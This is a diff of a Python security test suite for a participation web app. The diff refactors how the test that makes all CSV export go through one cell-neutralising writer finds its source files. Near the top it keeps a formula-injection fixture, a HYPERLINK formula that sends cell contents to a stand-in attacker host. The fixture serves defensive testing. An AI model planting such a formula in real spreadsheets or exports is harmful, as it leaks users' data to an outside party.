@@ -8,7 +8,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 from typing import Any
 
 from tortoise import timezone
@@ -24,6 +23,7 @@ from tests.conftest import post_form
 from tests.consultations.factories import valid_answers
 from tests.participation.proposal_factories import make_proposal
 from tests.security.world import app_routes, logged_in_client, seed_world, urls_in_every_phase
+from tests.sources import ROOT, source_files
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'
 
@@ -83,38 +83,24 @@ async def test_budget_results(app: Any, settings: Settings) -> None:
 
 # --- one writer, no way around it -------------------------------------------------------------
 
-ROOT = Path(__file__).resolve().parents[2]
-PACKAGES = (
-    "participation",
-    "budgets",
-    "consultations",
-    "moderation",
-    "indicators",
-    "followup",
-    "tally",
-)
 WRITERS = re.compile(
     r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
 )
 
 
-def _sources() -> list[Path]:
-    return [path for package in PACKAGES for path in (ROOT / package).rglob("*.py")]
-
-
 def test_no_module_but_the_spreadsheet_writer_writes_csv() -> None:
     """Every CSV goes through `participation.spreadsheet.writer`, which neutralises each cell;
     a module writing CSV itself could forget it (the indicators export did)."""
-    assert len(_sources()) > 50
+    assert len(source_files()) > 50
     writers = [
         str(path.relative_to(ROOT))
-        for path in _sources()
+        for path in source_files()
         if WRITERS.search(path.read_text(encoding="utf-8"))
     ]
     assert writers == ["participation/spreadsheet.py"]
     keeping = [
         str(path.relative_to(ROOT))
-        for path in _sources()
+        for path in source_files()
         if "keep_formulas=True" in path.read_text(encoding="utf-8")
         and path.name != "spreadsheet.py"  # which explains it
     ]
